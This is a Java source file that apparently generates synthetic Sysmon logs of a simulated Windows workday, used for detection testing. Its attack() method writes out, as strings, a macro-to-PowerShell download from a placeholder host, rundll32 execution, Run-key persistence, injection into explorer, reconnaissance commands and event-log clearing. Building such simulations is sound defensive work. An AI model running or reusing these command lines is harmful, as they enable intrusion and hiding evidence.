package pedigree.samples;

import static pedigree.samples.Stories.MIRA;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/** A day at a desk, from switching on to going home: three hundred processes, and perhaps an attack after lunch. */
final class WorkingDay {

    private static final String SYSTEM32 = "C:\\Windows\\System32\\";
    private static final String MICROSOFT = "Microsoft Corporation";
    private static final String LIBRARY = "C:\\Users\\Public\\update.dll";
    private static final Program CHROME = Program.installed("Google\\Chrome\\Application\\chrome.exe", "Google Chrome", "Google LLC");
    private static final Program WORD = Program.installed("Microsoft Office\\root\\Office16\\WINWORD.EXE", "Microsoft Word", MICROSOFT);
    private static final Program OUTLOOK = Program.installed("Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Microsoft Outlook", MICROSOFT);

    private final Machine machine = new Machine("DESK-07", 0x71c0be55L, 112, "2026-03-04T07:41:02Z");
    private final Desk desk = new Desk(machine, new Random(7)); // the same day each time
    private final Map<String, Running> services = new LinkedHashMap<>();
    private Running winlogon;
    private Running explorer;

    /** The whole day's Sysmon log. */
    static List<LogRecord> sysmon(boolean attacked) {
        WorkingDay day = new WorkingDay();
        day.boot();
        day.logOn();
        for (int hour = 0; hour < 9; hour++) {
            day.work(hour);
            if (attacked && hour == 5) {
                day.attack();
            }
        }
        return day.machine.sysmon();
    }

    private void boot() {
        Running system = machine.existing(Program.kernel("System"), "", User.SYSTEM, 4);
        machine.start(system, Program.kernel("Registry"), "", User.SYSTEM, 124);
        Running smss = machine.after(0.412).start(system, Program.windows("smss.exe"), "\\SystemRoot\\System32\\smss.exe", User.SYSTEM, 500);
        Running services0 = session(smss, User.SYSTEM, "000000d8 00000084 ", 612);
        Running wininit = machine.after(0.093).start(services0, Program.windows("wininit.exe"), "wininit.exe", User.SYSTEM, 700);
        machine.end(services0);
        User console = User.SYSTEM.in(1);
        Running session1 = session(smss, console, "000000f4 00000084 ", 708);
        winlogon = machine.after(0.104).start(session1, Program.windows("winlogon.exe"), "winlogon.exe", console, 792);
        machine.end(session1);
        Running manager = machine.after(0.117).start(wininit, Program.windows("services.exe"), SYSTEM32 + "services.exe", User.SYSTEM, 844);
        machine.after(0.052).start(wininit, Program.windows("lsass.exe"), SYSTEM32 + "lsass.exe", User.SYSTEM, 864);
        desk.run(winlogon, Program.windows("fontdrvhost.exe"), "\"fontdrvhost.exe\"",
                new User("Font Driver Host\\UMFD-1", "S-1-5-96-0-1", 0xb1f4, 1, "Low"));
        desk.run(winlogon, Program.windows("dwm.exe"), "\"dwm.exe\"", new User("Window Manager\\DWM-1", "S-1-5-90-0-1", 0xc93e, 1, "System"));
        startServices(manager);
    }

    private Running session(Running smss, User user, String arguments, long pid) {
        Running session = machine.after(0.381).start(smss, Program.windows("smss.exe"), "\\SystemRoot\\System32\\smss.exe " + arguments, user, pid);
        machine.after(0.112).start(session, Program.windows("csrss.exe"),
                "%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On", user, pid + 12);
        return session;
    }

    private void startServices(Running manager) {
        for (String group : List.of("DcomLaunch -p", "RPCSS -p", "LocalServiceNetworkRestricted -p -s EventLog", "netsvcs -p -s Schedule",
                "netsvcs -p -s ProfSvc", "LocalService -p -s nsi", "NetworkService -p -s Dnscache", "netsvcs -p -s UserManager",
                "LocalServiceNoNetwork -p", "netsvcs -p -s wuauserv", "netsvcs -p -s BITS", "appmodel -p -s StateRepository")) {
            User user = group.startsWith("Local") ? User.LOCAL_SERVICE
                    : group.startsWith("Network") || group.startsWith("RPCSS") ? User.NETWORK_SERVICE : User.SYSTEM;
            services.put(group.replaceAll(" -p|.* -s ", ""), desk.system(manager, "svchost.exe", " -k " + group, user));
        }
        desk.system(manager, "spoolsv.exe", "", User.SYSTEM);
        desk.system(manager, "SearchIndexer.exe", " /Embedding", User.SYSTEM);
        Program antivirus = new Program("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MsMpEng.exe", "MsMpEng.exe",
                "4.18.24010.12", "Antimalware Service Executable", "Microsoft® Windows® Operating System", MICROSOFT);
        desk.quoted(manager, antivirus, "", User.SYSTEM);
    }

    private void logOn() {
        Running userinit = machine.after(38).start(winlogon, Program.windows("userinit.exe"), SYSTEM32 + "userinit.exe", MIRA, 5_996);
        explorer = machine.after(0.221).start(userinit, Program.windows("C:\\Windows\\explorer.exe"), "C:\\Windows\\Explorer.EXE", MIRA, 6_012);
        desk.run(services.get("UserManager"), Program.windows("sihost.exe"), "sihost.exe", MIRA);
        desk.run(services.get("Schedule"), Program.windows("taskhostw.exe"), "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", MIRA);
        desk.run(services.get("Schedule"), Program.windows("ctfmon.exe"), "ctfmon.exe", MIRA);
        desk.system(services.get("DcomLaunch"), "RuntimeBroker.exe", " -Embedding", MIRA);
        desk.quoted(explorer, Program.installed("Microsoft OneDrive\\OneDrive.exe", "Microsoft OneDrive", MICROSOFT), " /background", MIRA);
        Running teams = desk.quoted(explorer, Program.installed("Teams\\ms-teams.exe", "Microsoft Teams", MICROSOFT), "", MIRA);
        desk.quoted(teams, Program.installed("EdgeWebView\\msedgewebview2.exe", "Microsoft Edge WebView2", MICROSOFT),
                " --embedded-browser-webview=1", MIRA);
        desk.later(20).end(userinit);
    }

    private void work(int hour) {
        desk.later(1_250);
        List<Running> browser = browse(hour);
        readMail(hour);
        desk.end(browser);
        update(hour);
        for (int i = 0; i < 6; i++) {
            Running task = desk.run(services.get("Schedule"), Program.windows("taskhostw.exe"),
                    i % 2 == 0 ? "taskhostw.exe SYSTEM" : "taskhostw.exe", User.SYSTEM);
            desk.later(100);
            Running com = desk.system(services.get("DcomLaunch"), "dllhost.exe", " /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}", MIRA);
            desk.end(List.of(com, task));
        }
        if (hour == 3) {
            pingTheFileServer();
        }
    }

    /** Opens a browser with some pages. Those come first in the answer, the browser itself last. */
    private List<Running> browse(int hour) {
        Running browser = desk.quoted(explorer, CHROME, "", MIRA);
        machine.after(0.4).resolve(browser, "www.lab.example", "192.0.2." + (20 + hour));
        machine.after(0.03).connect(browser, "192.0.2." + (20 + hour), 443);
        List<Running> pages = new ArrayList<>();
        pages.add(desk.quoted(browser, CHROME, " --type=gpu-process --lang=en", MIRA));
        int count = 7 + desk.below(6);
        for (int page = 1; page <= count; page++) {
            pages.add(desk.quoted(browser, CHROME, " --type=renderer --lang=en --renderer-client-id=" + (4 + page), MIRA));
            desk.later(20);
        }
        pages.add(browser);
        return pages;
    }

    private void readMail(int hour) {
        Running mail = desk.quoted(explorer, OUTLOOK, "", MIRA);
        desk.later(150);
        Running word = desk.quoted(mail, WORD, " /n \"C:\\Users\\mira\\Documents\\report-" + hour + ".docx\"", MIRA);
        desk.later(80);
        Running print = desk.run(word, Program.windows("C:\\Windows\\splwow64.exe"), "C:\\Windows\\splwow64.exe 12288", MIRA);
        desk.later(25);
        desk.end(print);
        desk.later(300);
        desk.end(List.of(word, mail));
        Running notes = desk.quoted(explorer, Program.windows("notepad.exe"), " C:\\Users\\mira\\Documents\\todo.txt", MIRA);
        desk.later(50);
        desk.end(notes);
    }

    private void update(int hour) {
        Program google = Program.installed("Google\\GoogleUpdater\\121.0.6167.0\\updater.exe", "Google Updater", "Google LLC");
        Running updater = desk.quoted(services.get("Schedule"), google, " --wake --system", User.SYSTEM);
        machine.after(0.2).connect(updater, "192.0.2.200", 443);
        Running protocol = desk.system(services.get("DcomLaunch"), "SearchProtocolHost.exe", " Global\\UsGthrFltPipeMssGthrPipe" + hour, User.SYSTEM);
        desk.later(4);
        desk.end(List.of(protocol, updater));
    }

    private void pingTheFileServer() {
        Running shell = desk.quoted(explorer, Program.windows("cmd.exe"), " ", MIRA);
        Running console = desk.run(shell, Program.windows("conhost.exe"), "\\??\\C:\\Windows\\system32\\conhost.exe 0x4", MIRA);
        desk.later(9);
        Running ping = desk.run(shell, Program.windows("PING.EXE"), "ping  fileserver.lab.example", MIRA);
        desk.later(4);
        desk.end(ping);
        desk.later(60);
        desk.end(List.of(shell, console));
    }

    /** A document runs a macro: a download, a library that stays, a look around, and a log that is cleared. */
    private void attack() {
        Running word = desk.quoted(explorer, WORD, " /n \"C:\\Users\\mira\\Downloads\\invoice-4471.docm\"", MIRA);
        desk.later(6);
        String download = "powershell -nop -w hidden -enc " + encoded("Invoke-WebRequest http://203.0.113.66/update -OutFile " + LIBRARY);
        Running cmd = desk.run(word, Program.windows("cmd.exe"), "cmd.exe /c " + download, MIRA);
        Running shell = desk.run(cmd, Program.windows(SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"), download, MIRA);
        machine.after(1.207).connect(shell, "203.0.113.66", 80);
        machine.after(2.031).create(shell, LIBRARY);
        Running rundll32 = desk.run(shell, Program.windows("rundll32.exe"), "\"C:\\Windows\\system32\\rundll32.exe\" " + LIBRARY + ",Start", MIRA);
        machine.after(0.412).resolve(rundll32, "cdn.update.example", "203.0.113.66");
        machine.after(0.022).connect(rundll32, "203.0.113.66", 443);
        lookAround(rundll32);
        desk.later(30);
        machine.set(rundll32, "HKU\\" + MIRA.sid() + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Update",
                "rundll32.exe " + LIBRARY + ",Start");
        machine.after(12.2).inject(rundll32, explorer);
        desk.later(60);
        desk.end(desk.run(rundll32, Program.windows("wevtutil.exe"), "wevtutil cl \"Windows PowerShell\"", MIRA));
        desk.end(List.of(shell, cmd));
    }

    private void lookAround(Running rundll32) {
        for (String command : List.of("whoami /all", "net group \"Domain Admins\" /domain", "ipconfig /all", "tasklist /v")) {
            desk.later(5);
            Program tool = Program.windows(command.substring(0, command.indexOf(' ')) + ".exe");
            desk.end(desk.run(rundll32, tool, command, MIRA));
        }
    }

    private static String encoded(String script) {
        return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    }
}
